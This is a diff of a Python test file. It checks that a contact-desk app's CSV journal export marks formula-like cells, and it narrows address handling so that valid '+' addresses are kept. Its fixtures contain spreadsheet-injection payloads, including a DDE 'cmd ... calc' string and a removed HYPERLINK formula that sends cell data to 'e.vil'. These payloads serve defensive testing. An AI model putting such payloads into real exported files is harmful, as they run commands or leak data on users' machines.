@@ -164,26 +164,16 @@ def test_neutralise() -> None:
 
 
 def test_the_journal_export_marks_every_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
-    """An address file can bring both the reason and an address that starts like a formula ('+' is valid in an
-    address); the journal is for people to read in a spreadsheet, so neither runs there."""
+    """An address file can bring a reason that starts like a formula; the journal is read in a spreadsheet, so it
+    is marked there. A valid address is never altered (issue 14: "+1-555@example.com" is data), an id is."""
     from ccdesk.services.export import export_journal
     from ccdesk.store.journal import JournalEntry
 
-    entry = JournalEntry(1, BASE, "=cmd|' /C calc'!A0", "Front desk", "", "unsubscribe", "c1",
+    entry = JournalEntry(1, BASE, "=cmd|' /C calc'!A0", "Front desk", "", "unsubscribe", "=c1",
                          "+1-555@example.com", "=HYPERLINK(\"http://x.example\")", "Contact", "2026-05-01", "sent",
                          BASE, "@SUM(1)")
     out = tmp_path / "journal.csv"
     assert export_journal(out, [entry]) == 1
     [row] = read(out)[1:]
-    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))], row
-    assert "'+1-555@example.com" in row and "'=HYPERLINK(\"http://x.example\")" in row
-
-
-@pytest.mark.parametrize(("address", "kept"), [
-    ("+alice@example.com", True), ("-bob.smith_2@mail.example.org", True), ("alice@example.com", True),
-    ('=HYPERLINK("http://e.vil/"&A2,"x")@a.b', False), ("=carl@example.org", False),
-    ("+cmd|'/Ccalc'!A0@x.com", False), ("@SUM(1)", False)])
-def test_the_address_column_keeps_plain_addresses_only(address: str, kept: bool) -> None:
-    from ccdesk.services.csv_writer import neutralise_address
-
-    assert (neutralise_address(address) == address) is kept
+    assert [cell for cell in row if cell.startswith(("=", "+", "-", "@"))] == ["+1-555@example.com"], row
+    assert "'=c1" in row and "'=HYPERLINK(\"http://x.example\")" in row
